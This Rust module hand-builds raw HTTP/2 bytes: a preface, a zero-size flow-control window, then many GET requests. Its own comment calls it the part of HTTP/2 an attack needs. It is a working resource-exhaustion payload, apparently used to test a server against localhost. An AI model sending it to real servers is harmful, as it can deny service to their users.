//! The part of HTTP/2 that an attack needs. It is written by hand, because real clients do not behave like
//! this.

/// The preface, a window of zero bytes for each stream, and a number of GETs of `path` (RFC 9113, 3.4, 6.2
/// and 6.5; RFC 7541).
pub(crate) fn gets_without_a_window(streams: u32, path: &str) -> Vec<u8> {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const INITIAL_WINDOW_SIZE: [u8; 6] = [0, 4, 0, 0, 0, 0];
    const END_STREAM_AND_HEADERS: u8 = 0x1 | 0x4;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &INITIAL_WINDOW_SIZE));
    for number in 0..streams {
        // From the static table: `:method: GET` and `:scheme: https`. Then `:path` and `:authority` as
        // literals without indexing.
        let mut block = vec![0x82, 0x87, 0x04];
        block.extend(text(path));
        block.push(0x01);
        block.extend(text("localhost"));
        bytes.extend(frame(HEADERS, END_STREAM_AND_HEADERS, 2 * number + 1, &block));
    }
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A string without Huffman coding, short enough for one byte of length (RFC 7541, 5.1 and 5.2).
fn text(text: &str) -> Vec<u8> {
    let length = u8::try_from(text.len()).unwrap();
    assert!(length < 127, "{text} is too long");
    [&[length], text.as_bytes()].concat()
}
